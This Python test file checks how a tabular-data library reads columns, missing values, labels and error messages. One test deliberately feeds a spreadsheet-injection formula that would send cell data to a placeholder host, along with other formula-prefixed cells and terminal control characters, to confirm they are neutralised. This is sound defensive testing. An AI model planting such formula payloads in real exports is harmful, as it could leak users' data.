"""What a table's columns become: numbers, dates, categories and text, classes of each kind, and refusals by row and column."""

import csv
import io
import pickle
import pickletools
import time
from contextlib import suppress
from dataclasses import replace
from functools import partial

import numpy as np
import pandas as pd
import pytest
from cases import each
from hostile_files import parquet
from own_tables import lines, own_spec, read, read_sniffed, sniff, sniff_file, table

from dsgcore import QSGS2AUC
from dsgcore.__main__ import main
from dsgcore.cli.predict import Fitted
from dsgcore.data import DataError, rows_of
from dsgcore.data.converting import convert_file, describe_file
from dsgcore.data.reading import LOCAL, Features, File, Recipe, Source, features
from dsgcore.data.reading.cells import written
from dsgcore.experiments import load_split

N = 60
SMALL = {"n_iter": 4, "n_features": 8, "batch_size": 8, "random_state": 0, "tol": None}


def frame(**more):
    a = np.random.default_rng(0).normal(size=N)
    return pd.DataFrame({"a": a, "b": a + np.arange(N) % 3, "label": (np.arange(N) % 3 == 0).astype(int)} | more)


NUMBERS = [f"{i},{'ab'[i % 2]}" for i in range(30)]


def test_pieces_and_runs_read_what_the_whole_does(tmp_path):
    # The first piece alone would be plain numbers, of another size.
    cells = ["1.234"] * 20 + ["1.234,5", "1.250.000,25"] * 10
    content = lines("price;label", *(f"{cell};{'ab'[i % 2]}" for i, cell in enumerate(cells)))
    recipe = sniff(content, "a.csv", labels="classes")
    whole = read(content, recipe, labels="classes")
    assert whole.X[0, 0] == 1234.0
    (tmp_path / "a.csv").write_bytes(content)
    assert sniff_file(tmp_path / "a.csv") == recipe
    convert_file(tmp_path / "a.csv", tmp_path / "out", recipe)
    file = File.of_path(tmp_path / "out")
    np.testing.assert_array_equal(file.prepared(file.recipe("classes"), "classes")[0].X, whole.X)
    spec, files = own_spec(content, recipe, scaling="none", n_labeled=10)
    assert load_split(spec, files=files).X_train.max() == np.float32(1250000.25)


def csv_of(cells, decimal="."):
    delimiter = "," if decimal == "." else ";"
    rows = [delimiter.join((f'"{cell}"', str(i % 7), "xy"[i % 2])) for i, cell in enumerate(cells)]
    return lines(delimiter.join(("price", "b", "label")), *rows)


# --- mistakes and missing cells


def test_each_remedy_of_a_mistake_is_an_option_of_the_command_and_all_pieces_count(tmp_path, capsys):
    (tmp_path / "t.csv").write_bytes(csv_of(["Err:502" if i == 2 else f"{i},5" for i in range(40)], ","))
    for remedy in ([], ["--missing-words", "Err:502"], ["--drop", "price"], ["--category", "price"]):
        assert main(["data", "describe", str(tmp_path / "t.csv"), *remedy]) == (0 if remedy else 2)
    assert "must hold numbers, got 'Err:502' (a spreadsheet's error) in row 3: correct " in capsys.readouterr().err
    (tmp_path / "t.csv").write_bytes(csv_of(["bad" if i % 1000 == 999 else f"{i}.5" for i in range(45_000)]))
    with pytest.raises(DataError, match="got 'bad' in row 1000, the first of 45 cells that are no numbers"):
        describe_file(tmp_path / "t.csv")


@each("kind", ["csv", "parquet", "npz", "bytes"])
def test_a_word_that_means_missing_is_said_and_an_option_says_otherwise(kind, tmp_path, capsys):
    own = frame(label=np.resize(["NA", "x", "y"], N).astype("S" if kind == "bytes" else str).astype(object))
    path = tmp_path / f"t.{'parquet' if kind == 'bytes' else kind}"
    if kind == "npz":
        np.savez(path, X=own[["a", "b"]], y=own.label.to_numpy().astype(str))
    else:
        own.to_csv(path, index=False) if kind == "csv" else own.to_parquet(path)
    said = f"Read as missing labels: 20 cells 'NA' (in '{'y' if kind == 'npz' else 'label'}')"
    for words, n_classes in ((), 2), (("--missing-words", "only"), 3), (("--missing-words", "-"), 2):
        assert main(["data", "describe", str(path), *words]) == 0
        printed = capsys.readouterr().out
        assert f"{n_classes} classes" in printed
        assert (said in printed) == (n_classes == 2)
    if kind == "parquet":
        assert rows_of(path, "label")[0].guesses == (f"{said}.",)
        assert len(set(rows_of(path, "label", missing_words=())[1].tolist())) == 3
        with pytest.warns(UserWarning, match="Read as missing labels: 20 cells"):
            QSGS2AUC(**SMALL).fit(path, "label")


@each("kind", ["csv", "svm"])
def test_a_folder_of_text_is_converted_whole_or_refused_by_the_name_of_a_file(kind, tmp_path_factory):
    folder = tmp_path_factory.mktemp("text")
    for number in range(3):
        own = frame().iloc[20 * number : 20 * number + 20].round(3)
        sparse = (f"{row.label:g} 1:{row.a} {2 + number}:{row.b}" for row in own.itertuples())
        text = lines(*sparse) if kind == "svm" else own.to_csv(index=False).encode()
        (folder / f"{number}.{kind}").write_bytes(text)
    out = folder.with_name(f"{folder.name}-parquet")
    assert convert_file(folder, out, sniff_file(folder / f"2.{kind}")) == N
    made = pd.read_parquet(out)
    assert made.shape == (N, 5 if kind == "svm" else 3)
    file = File.of_path(folder)
    read = file.table(file.sniff())
    pd.testing.assert_frame_equal(read.frame, made, check_dtype=False)
    assert read.notes == ("3 files of a folder are read as one table.",)
    for number in (0, 1):  # of two files, too, the one with the mistake is named
        (folder / f"{number}.{kind}").unlink()
    (folder / f"3.{kind}").write_bytes(lines("1 2:0.5 1:3") if kind == "svm" else lines("a,b", "1,2"))
    said = "line 1 must have increasing indices" if kind == "svm" else "its columns are not those of the first file"
    with pytest.raises(DataError, match=rf"^3\.{kind}: {said}"):
        convert_file(folder, out / "new", sniff_file(folder / f"2.{kind}"))
    with pytest.raises(DataError, match=rf"^3\.{kind}: {said}"):
        sniff_file(folder)
    (folder / f"3.{kind}").write_bytes(parquet())
    with pytest.raises(DataError, match=rf"^3\.{kind}: the recipe is for the format \w+, and the file is parquet"):
        sniff_file(folder)


def test_the_preparation_that_fit_writes_names_what_earlier_files_name():
    words = ["red green", "green blue", "blue red"]
    own = frame(a=1.7e9 + np.arange(N) % 50, kind=[words[i % 3] for i in range(N)])
    recipe = Recipe(format="parquet", roles=(("kind", "text"), ("label", "label")))
    content = pickle.dumps(Features(recipe, LOCAL).fit(own), protocol=2)
    named = {str(given) for code, given, _ in pickletools.genops(content) if code.name == "GLOBAL"}
    own_names = {one.removeprefix("dsgcore.data.reading.") for one in named if one.startswith("dsgcore")}
    assert own_names == {"features Features", "features _less", "features _dense", "recipe Limits", "recipe Recipe"}


@each("name, write", [("parquet", pd.DataFrame.to_parquet), ("xlsx", partial(pd.DataFrame.to_excel, index=False))])
@each("option", ["delimiter", "below", "decimal"])
def test_an_option_of_a_text_is_refused_for_other_files(name, write, option, tmp_path_factory):
    write(frame(), path := tmp_path_factory.mktemp("other") / f"t.{name}")
    given = {option: {"delimiter": ";", "below": 1, "decimal": ","}[option]}
    if (name, option) != ("xlsx", "below"):  # a sheet may have units
        said = f"--{option} tells how a text such as CSV is written, and this file is none: leave it out"
        for read in (partial(sniff_file, path), partial(rows_of, path, "label")):
            with pytest.raises(DataError, match=said):
                read(**given)


@each("cells", [("5K", "7K", "2M", "900"), ("12 kg", "15 kg", "7 kg", "8 kg")])
def test_numbers_do_not_depend_on_the_pieces_of_a_table(cells, monkeypatch):
    content = "\n".join(["price,label", *(f"{cells[i // 20]},{'xy'[i % 2]}" for i in range(80))]).encode()
    whole = read_sniffed(content).X
    monkeypatch.setattr(features, "ROWS_AT_A_TIME", 20)
    np.testing.assert_array_equal(read_sniffed(content).X, whole)


@each("lines_above", ["|" * 2000, " " * 2000, "a" * 2000 + "|"])
@each("line", [" " * 3000, "-" * 3000, "-|" * 1500 + "x", "a|b\n-|-\n1|x\n" + " " * 300_000])
def test_whether_a_table_is_drawn_is_soon_known(lines_above, line):
    begin = time.process_time()
    with suppress(DataError):
        read_sniffed((f"{lines_above}\n{line}\n" if "\n" not in line else line).encode())
    assert time.process_time() - begin < 2.0


@each("kind", ["csv", "parquet", "large parquet"])
def test_words_that_mean_missing_in_a_new_table_alone_are_an_option_of_predict(kind, tmp_path_factory, capsys):
    to, name = tmp_path_factory.mktemp("words"), f"t.{kind.split()[-1]}"
    write = partial(pd.DataFrame.to_csv, index=False) if kind == "csv" else pd.DataFrame.to_parquet
    (to / "new").mkdir()
    write(frame(a=[-999.0, *range(N - 1)]), to / name)
    write(pd.DataFrame({"a": [-999.0, -99.0, 3.0], "b": [1.0, 2.0, 3.0]}), to / "new" / name)
    fit = ["fit", "TSGS3VM", str(to / name), "--target=label", "--out", str(to / "model"), "--missing-words=-999"]
    assert main([*fit, "--scaling=none", "--set", "n_iter=2", "--set", "sigma=9", "--quiet"]) == 0
    mean, places = np.mean(range(N - 1)), (to / "model", to / "new" / name)
    with pytest.MonkeyPatch.context() as patch:
        if kind == "large parquet":
            patch.setattr("dsgcore.cli.predict.is_large", lambda path: True)
        for words, first in ((None, [mean, -99, 3]), (["-99"], [mean, mean, 3]), (["only", "-99"], [-999, mean, 3])):
            (part,) = Fitted.of(places[0]).parts(places[1], None, [], {"missing_words": words})
            np.testing.assert_allclose(np.concatenate([*part.read()[0]])[:, 0], first, rtol=1e-6)
    scores = []
    for words in ([], ["--missing-words=-99"]):
        assert main(["predict", *map(str, places), "--out", str(to / f"out{len(words)}"), *words, "--quiet"]) == 0
        scores.append(pd.read_parquet(to / f"out{len(words)}")["score"].tolist())
    assert [one == other for one, other in zip(*scores, strict=True)] == [True, False, True]
    assert main(["predict", str(to / "model"), str(places[1]), "--out", str(to / "out0"), "--missing-words=-99"]) == 2
    assert "holds other data than this model's values" in capsys.readouterr().err
    line = ["predict", str(to / "model" / "model.npz"), str(places[1]), "--out", str(to / "out")]
    assert main([*line, "--missing-words=-9"]) == 2
    assert "--missing-words needs the folder that" in capsys.readouterr().err


# --- roles of columns


def test_text_and_means_are_learned_from_training_rows_only():
    own = table()
    own.loc[::5, "size"] = np.nan
    content = parquet(frame=own)
    recipe = replace(sniff(content, "a.parquet"), text_dimensions=4)
    spec, files = own_spec(content, recipe, scaling="none")
    split = load_split(spec, files=files)
    names = read(content, recipe).feature_names
    assert len([name for name in names if name.startswith("note: direction")]) == 4
    train, size = own["size"].to_numpy()[split.train_rows], names.index("size")
    filled = split.X_test[np.isnan(own["size"].to_numpy()[split.test_rows]), size]
    np.testing.assert_allclose(filled, np.float32(np.nanmean(train)), rtol=1e-6)
    other = own.copy()  # other words in the test rows change no training point
    other.loc[split.test_rows, "note"] = "completely different words here"
    other.loc[split.test_rows, "size"] = 1e6
    changed, more = own_spec(parquet(frame=other), recipe, scaling="none")
    np.testing.assert_array_equal(load_split(changed, files=more).X_train, split.X_train)


@each("wrong", ["lable", "Label", "outcome"])
def test_a_wrong_label_is_named_with_those_that_there_are(wrong, tmp_path, capsys):
    path, text, own = tmp_path / "t.parquet", tmp_path / "t.csv", frame(town="x")
    own.to_parquet(path)
    own.to_csv(text, index=False)
    frames = pytest.importorskip("dask.dataframe")
    hint = "" if wrong == "outcome" else r" \(did you mean 'label'\?\)"
    for use in (
        lambda: rows_of(path, wrong),
        lambda: sniff_file(text, target=wrong),
        lambda: rows_of(frames.from_pandas(own, npartitions=2), wrong),
    ):
        with pytest.raises(DataError, match=rf"there is no column '{wrong}'{hint}: the table has 'a', 'b', 'label'"):
            use()
    assert main(["fit", "QSGS2AUC", str(path), "--target", wrong, "--out", str(tmp_path / "out")]) == 2
    assert "did you mean" in (errors := capsys.readouterr().err) or wrong == "outcome"
    assert errors.count("\n") == 1


# --- names that pages and spreadsheets show, and messages


def test_formulas_are_text_and_cannot_be_exported_as_formulas():
    formula, text = '=HYPERLINK("http://x/?"&A1)', io.StringIO()
    rows = [[formula if i % 2 else "+2", i, -i, "=A1" if i % 2 else "-1"] for i in range(20)]
    csv.writer(text).writerows([["=1+1", "@cmd", "-x", "label"], *rows])
    content = text.getvalue().encode()
    recipe = sniff(content, "a.csv")
    assert dict(recipe.roles) == {"=1+1": "category", "label": "label"}
    dataset = read(content, recipe)
    names = (*dataset.feature_names, *dataset.class_names)
    assert "'=1+1: 2" in names or "'=1+1: +2" in names
    assert not any(name.startswith(("=", "+", "@")) for name in names)
    assert dataset.class_names == ("-1", "'=A1")  # a number is one
    head = File(Source.of_bytes(content, "a.csv")).table(recipe).head()
    assert not any(cell.startswith(("=", "@", "-x")) for cell in [*map(str, head.columns), *head.to_numpy().ravel()])


def test_control_characters_never_reach_a_page():
    content = lines('"a\x1b[2J\u202e\nb",label', *(f"{i},{('x', chr(7) + 'y')[i % 2]}" for i in range(20)))
    dataset = read_sniffed(content)
    assert all(name.isprintable() for name in (*dataset.feature_names, *dataset.class_names, *dataset.report))


LONG = "q" * 100_000


@each(
    "given",
    [
        {"bins": LONG},
        {"roles": {"x": LONG}},
        {"roles": {LONG: "pair"}},
        {"positive": LONG},
        {"order": [LONG]},
        {LONG: 1},
    ],
)
def test_no_message_repeats_a_page_of_what_was_given(given):
    content = lines("x,label", *NUMBERS)
    plain = sniff(content, "a.csv").to_dict() | given | {"roles": {"label": "label"} | given.get("roles", {})}
    with pytest.raises(DataError) as refused:
        read(content, Recipe.from_dict(plain), labels="binary")
    assert len(str(refused.value)) < 400


# --- classes


VALUES = [(3.0, "3"), (2.5, "2.5"), (-0.0, "0"), (3e9, "3000000000"), (2.0**52, "4503599627370496"), (True, "True")]


@each("value, said", VALUES)
def test_a_value_of_a_label_is_written_as_people_write_it(value, said):
    assert written(value) == said


@each("shape", [(N,), (N, 1)])
def test_labels_of_an_archive_may_be_a_column(shape):
    np.savez(to := io.BytesIO(), X=frame()[["a", "b"]].to_numpy(), y=np.resize(["x", "y"], N).reshape(shape))
    data = read_sniffed(to.getvalue(), "t.npz")
    assert (data.class_names, len(data.y)) == (("x", "y"), N)
    assert "line of names" not in " ".join(data.report)  # a class may be called as the array is


@each("labels", ["binary", "pairs", "ordinal", "classes"])
@each("name, missing", [("pair", ""), ("Pair_ID", "-1")])
def test_a_table_of_pairs_alone_has_no_classes(labels, name, missing, tmp_path):
    rng = np.random.default_rng(0)
    content = lines(
        f"x,z,{name}", *(f"{rng.normal()},{rng.normal()},{i // 2 if i < 40 else missing}" for i in range(60))
    )
    (file := tmp_path / "t.csv").write_bytes(content)
    said = f"column '{name}' holds ids of similar pairs, .* from the pairs alone"
    if labels != "pairs":
        with pytest.raises(DataError, match=said):
            rows_of(file, name, labels=labels)
    _, y = rows_of(file, name, labels="pairs")
    assert y.max() == 19
    assert np.sum(y == -1) == 20
